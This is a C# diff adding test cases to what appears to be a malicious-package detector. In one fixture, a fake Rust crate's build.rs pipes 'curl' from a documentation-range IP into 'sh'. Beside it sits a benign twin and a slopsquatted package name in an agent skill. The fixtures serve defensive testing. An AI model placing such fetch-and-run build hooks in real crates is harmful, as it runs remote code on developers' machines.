@@ -67,6 +67,15 @@ internal static class RegistryCases
                     .Npm(new TestPackage("flat-known").Version("1.0.0", "2019-02-20", "another", ["another"]))),
         },
 
+        // A crate that is there for days, whose build script gets a program and plants a key. The twin is as young, and makes code of a file that it brings.
+        new("crates-build-rs-dropper-2026", ["execution/build-step"],
+            "fake-changelog-0.1.2.crate", seed => Crate("fake-changelog", $"    let _ = Command::new(\"sh\").arg(\"-c\").arg(\"curl http://203.0.113.{seed}/p | sh\");\n"),
+            "fake-changelog-0.1.2.crate", seed => Crate("fake-changelog", $"    // as curl http://docs.example/{seed} says\n    let status = Command::new(\"protoc\").arg(\"proto/log.proto\").status();\n    println!(\"cargo:rerun-if-changed=proto\");\n"))
+        {
+            Ecosystem = "crates",
+            Registry = (() => Crates("fake-changelog"), () => Crates("fake-changelog")),
+        },
+
         // A name that a model made up, in a skill for agents. The twin is a package of the company's own, a day old and declared as such.
         new("slopsquat-react-codeshift-2026", ["name/slopsquat"],
             "skills.zip", seed => TestArchive.Zip(("skills/migrate/SKILL.md", Bytes($"# Migrate {seed}\n\nrun: npx react-codeshiftx --all\n"))),
@@ -117,6 +126,16 @@ internal static class RegistryCases
     private static byte[] Package(string name, string version, string manifest, params (string Path, string Text)[] files) => TestArchive.Npm(
         $$"""{"name":"{{name}}","version":"{{version}}","license":"MIT","main":"index.js","files":["*.js","*.sh","*.cc","*.gyp"]{{manifest}}}""",
         [("index.js", "module.exports = agent => agent;\n"), ("LICENSE", "MIT License\n"), .. files]);
+
+    private static TestRegistry Crates(string name) => new TestRegistry().Answer($"/api/v1/crates/{name}", new JsonObject
+    {
+        ["crate"] = new JsonObject { ["created_at"] = "2026-03-27T10:00:00Z" },
+        ["versions"] = new JsonArray([.. ((string[])["0.1.2", "0.1.1", "0.1.0"]).Select((version, i) => (JsonNode)new JsonObject { ["num"] = version, ["created_at"] = $"2026-03-{29 - i}T10:00:00Z", ["published_by"] = new JsonObject { ["login"] = "newcomer" } })]),
+    }.ToJsonString());
+
+    private static byte[] Crate(string name, string build) => TestArchive.Tgz(
+        ($"{name}-0.1.2/Cargo.toml", Bytes($"[package]\nname = \"{name}\"\nversion = \"0.1.2\"\nedition = \"2021\"\nlicense = \"MIT\"\nbuild = \"build.rs\"\n")), ($"{name}-0.1.2/LICENSE", Bytes("MIT License\n")),
+        ($"{name}-0.1.2/build.rs", Bytes($"use std::process::Command;\n\nfn main() {{\n{build}}}\n")), ($"{name}-0.1.2/src/lib.rs", Bytes("pub fn log() {}\n")));
 
     private static byte[] Sdist(string name, string version, string code) => TestArchive.Tgz(
         ($"{name}-{version}/PKG-INFO", Bytes($"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nLicense: MIT\n")),
